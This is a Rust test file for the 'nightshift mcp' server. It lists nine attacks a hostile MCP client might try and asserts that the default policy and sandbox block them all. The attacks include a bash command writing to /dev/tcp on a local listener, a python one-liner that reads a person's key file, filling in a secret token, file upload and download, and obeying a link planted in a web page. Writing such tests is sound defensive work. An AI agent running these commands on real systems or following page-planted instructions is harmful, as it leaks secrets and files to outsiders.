//! A hostile client of `nightshift mcp`: it tries by itself, and does what a hostile page says. The twin
//! makes the same calls of a suite whose policy allows them and whose commands have no walls.

use std::path::Path;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use super::models;
use super::yard::{CANARY, Outside, held};
use crate::mcp::client::Client;
use crate::support::{SuiteCopy, nightshift};

/// What a person has in a file that is no part of the suite.
const KEY: &str = "key-of-a-person";

/// What an attack may need to know.
struct Places<'a> {
    /// Where somebody listens on 127.0.0.2.
    port: u16,
    /// What the client was told of the page.
    page: &'a str,
    /// The file of a person.
    key: &'a Path,
}

struct Attack {
    name: &'static str,
    tool: &'static str,
    arguments: fn(&Places<'_>) -> Value,
    /// What shows that it worked: in what was heard outside, in the log of the product, or in what the
    /// client was told.
    won: &'static str,
}

static ATTACKS: [Attack; 9] = [
    Attack {
        name: "by-a-client-open-elsewhere",
        tool: "act",
        arguments: |it| open(&format!("http://127.0.0.2:{}/?n=absolute", it.port)),
        won: "n=absolute",
    },
    Attack {
        name: "by-a-client-open-without-a-scheme",
        tool: "act",
        arguments: |it| open(&format!("//127.0.0.2:{}/?n=bare", it.port)),
        won: "n=bare",
    },
    Attack {
        name: "by-a-client-open-by-a-written-step",
        tool: "act",
        arguments: |it| json!({ "step": format!("open: 'http://127.0.0.2:{}/?n=step'", it.port) }),
        won: "n=step",
    },
    Attack {
        name: "by-a-client-obey-the-page",
        tool: "act",
        arguments: |it| {
            let said = it.page.split("open ").nth(1).and_then(|it| it.split(' ').next());
            open(said.unwrap_or_default())
        },
        won: "n=obeyed",
    },
    Attack {
        name: "by-a-client-fill-in-a-secret",
        tool: "act",
        arguments: |_| {
            let (target, text) = ("label \"Name\"", "${secret:TOKEN}");
            json!({ "action": "fill", "target": target, "text": text })
        },
        won: "n=filled&q=canary",
    },
    Attack {
        name: "by-a-client-hand-a-file-over",
        tool: "act",
        arguments: |_| json!({ "step": "upload: { to: 'label \"Picture\"', file: secret.txt }" }),
        won: "n=uploaded",
    },
    Attack {
        name: "by-a-client-take-a-file-away",
        tool: "act",
        arguments: |_| json!({ "step": "download: { click: 'link \"Report\"', as: report.txt }" }),
        won: "n=downloaded",
    },
    Attack {
        name: "by-a-client-run-what-nobody-named",
        tool: "run",
        arguments: |it| {
            let port = it.port;
            json!({ "command": format!("bash -c 'echo n=ran > /dev/tcp/127.0.0.2/{port}'") })
        },
        won: "n=ran",
    },
    Attack {
        name: "by-a-client-read-a-file-by-what-is-named",
        tool: "run",
        arguments: |it| {
            let code = format!("print(open('{}').read())", it.key.display());
            json!({ "command": shell_words::join(["/usr/bin/python3", "-c", &code]) })
        },
        won: KEY,
    },
];

fn open(address: &str) -> Value {
    json!({ "action": "open", "text": address })
}

pub fn names() -> Vec<String> {
    ATTACKS.iter().map(|it| it.name.to_owned()).collect()
}

/// Makes every call of a suite with these lines for its product and for itself; answers with the names of
/// the attacks that got what they want, and all that the client was told. So long is waited for each.
fn won((product, own): (&str, &str), wait: Duration) -> (Vec<&'static str>, String) {
    let outside = Outside::default();
    let port = outside.tcp("127.0.0.2:0").port();
    // Nobody asks the model of this suite.
    let suite = models::suite(1, port, (product, "30s"));
    let config = std::fs::read_to_string(suite.root().join("nightshift.yaml")).expect("readable");
    suite.write("nightshift.yaml", &format!("{config}{own}"));
    let person = tempfile::tempdir().expect("a folder");
    let key = person.path().join("key");
    std::fs::write(&key, KEY).expect("written");

    let mut command = nightshift();
    command.args(["mcp", "-q"]).env("TOKEN", CANARY).current_dir(suite.root());
    let mut client = Client::of(&mut command);
    let page = client.well("observe", json!({}));
    let (mut won, mut all) = (Vec::new(), page.clone());
    for attack in &ATTACKS {
        // A call before it may have led elsewhere.
        client.call("act", open("/"));
        let arguments = (attack.arguments)(&Places { port, page: &page, key: &key });
        let told = client.call(attack.tool, arguments).text;
        // What it asked for stands in what it is told, too; the file of the person does not.
        let is_told = attack.won == KEY && told.contains(KEY);
        let shows = || is_told || seen(&suite, &outside).contains(attack.won);
        if soon(wait, shows) {
            won.push(attack.name);
        }
        all.push_str(&told);
    }
    client.leave();
    (won, all)
}

/// What was heard outside, and what the product's log says.
fn seen(suite: &SuiteCopy, outside: &Outside) -> String {
    let log = std::fs::read_to_string(suite.folder().join("log")).unwrap_or_default();
    format!("{}\n{log}", outside.heard().join("\n"))
}

fn soon(wait: Duration, shows: impl Fn() -> bool) -> bool {
    let until = Instant::now() + wait;
    loop {
        if shows() {
            return true;
        }
        if Instant::now() >= until {
            return false;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

#[test]
fn a_hostile_client_gains_nothing() {
    // Where a machine has no walls, no client comes in to a suite that names commands.
    let named = "policy: { commands: ['/usr/bin/python3 **'] }\n";
    let own = if held().is_some() { named } else { "" };
    let (won, told) = won(("", own), Duration::from_millis(300));
    assert_eq!(won, [""; 0], "{told}");
    assert!(!told.contains(CANARY), "{told}");
}

#[test]
fn what_a_hostile_client_wants_works_where_the_suite_allows_all_of_it() {
    let product = "    allow-hosts: ['127.0.0.2']\n";
    let own = "sandbox: off\npolicy:\n  allow: [open, click, fill, upload, download]\n  origins: [shop, 127.0.0.2]\n  secrets: [TOKEN]\n  commands: ['bash **', '/usr/bin/python3 **']\n";
    let (won, told) = won((product, own), Duration::from_secs(60));
    assert_eq!(won, ATTACKS.iter().map(|it| it.name).collect::<Vec<_>>(), "{told}");
}
